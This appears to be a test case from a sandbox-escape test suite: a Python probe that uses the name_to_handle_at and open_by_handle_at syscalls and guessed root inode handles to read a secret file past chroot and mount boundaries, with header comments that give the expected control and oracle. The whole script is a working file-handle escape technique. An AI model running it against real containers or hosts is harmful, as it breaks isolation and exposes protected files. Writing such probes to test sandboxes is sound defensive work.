# attack: file_handles
# threat: escape
# tries: open files by their numbers on the disk, past every root and mount
# wall: wasm
# native: separate_kernel | seccomp
# control: the secret is opened by its number
# oracle: the secret is not in what comes back
import ctypes
import os
import struct
import sys

print("begun", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
arena = sys.argv[1]
# Whatever is called may be the last thing a process does: each try is a child's.
if os.fork():
    raise SystemExit(os.waitstatus_to_exitcode(os.wait()[1]) and 1)


def by_number(mount, handle):
    return libc.syscall(304, os.open(mount, os.O_RDONLY), handle, os.O_RDONLY)


def show(fd, path=None):
    if fd >= 0:
        fd = os.open(path, os.O_RDONLY, dir_fd=fd) if path else fd
        print(os.pread(fd, 4096, 0), flush=True)


# A file that can be named gives its own number.
handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
if libc.syscall(303, -100, os.path.join(arena, "secret.txt").encode(), handle, ctypes.byref(ctypes.c_int()), 0) == 0:
    fd = by_number(arena, handle)
    if fd < 0 and ctypes.get_errno() == 1:
        print("impossible: only root may open by number", flush=True)
    show(fd)
# One that cannot is found from the root of the disk, whose number is 2 or, elsewhere, 128.
for mount in ("/", "/usr", "/etc/alternatives", "/opt", "/data", "/tmp"):
    for number in (2, 128):
        try:
            show(by_number(mount, struct.pack("=Ii2I", 8, 1, number, 0)), os.path.join(arena, "secret.txt").lstrip("/"))
        except OSError as error:
            print(error, flush=True)
os._exit(0)
